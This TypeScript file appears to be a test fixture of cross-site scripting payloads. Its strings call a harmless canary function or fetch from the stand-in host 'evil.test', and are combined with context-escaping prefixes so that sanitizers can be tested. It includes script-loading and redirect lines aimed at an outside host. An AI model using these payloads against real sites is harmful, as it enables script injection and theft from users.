/** Texts that would become script or leave the page if any screen took them for markup: families, generated from cores and ways out of a context. */

/** The function of the page that a payload calls when it runs. */
export const CANARY = '__canary';
/** A host that nothing may ask. */
export const OUTSIDE = 'evil.test';

const RUN = `${CANARY}()`;

/** Elements that run an attribute without anybody's help, or fetch something. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script src=//${OUTSIDE}/s.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<IMG SRC=x OnErRoR='${RUN}'/>`,
  `<img/src=x/onerror=${RUN}//`,
  `<img src=//${OUTSIDE}/i.png>`,
  `<img srcset=//${OUTSIDE}/i.png>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><image href=//${OUTSIDE}/i.svg /></svg>`,
  `<body onload=${RUN}>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=//${OUTSIDE}/></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<form action="javascript:${RUN}"><button autofocus onfocus=${RUN}>x</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<style>@import '//${OUTSIDE}/s.css';</style>`,
  `<link rel=stylesheet href=//${OUTSIDE}/s.css>`,
  `<link rel=prefetch href=//${OUTSIDE}/>`,
  `<meta http-equiv=refresh content="0;url=//${OUTSIDE}/">`,
  `<base href=//${OUTSIDE}/>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<x onpointerrawupdate=${RUN} style=position:fixed;inset:0>x</x>`,
  `<p style="background:url(//${OUTSIDE}/i.png)">x</p>`,
];

/** What closes the context that a careless template would have put a text into. */
const WAYS_OUT = ['', '">', "'>", '</textarea></title></style>', '--></script>'];

/** Texts that are no markup: addresses, templates, other writings of the same, and things that only break a parser. */
const OTHERS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `" autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus=${RUN} x='`,
  `\`-${RUN}-\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `';${RUN};//`,
  `");${RUN};//`,
  `\u2028${RUN}\u2029`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜img src=x onerror=${RUN}＞`,
  `\u202e<img src=x onerror=${RUN}>`,
  `<img src=x onerror=${RUN}>\ufffd`,
  `]]><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `__proto__`,
  `constructor`,
  `<form id=root><input name=children>`,
  `<div id=root data-canary>x</div>`,
];

/** All of them. */
export const hostileTexts: readonly string[] = [...ELEMENTS.flatMap((core) => WAYS_OUT.map((out) => `${out}${core}`)), ...OTHERS];
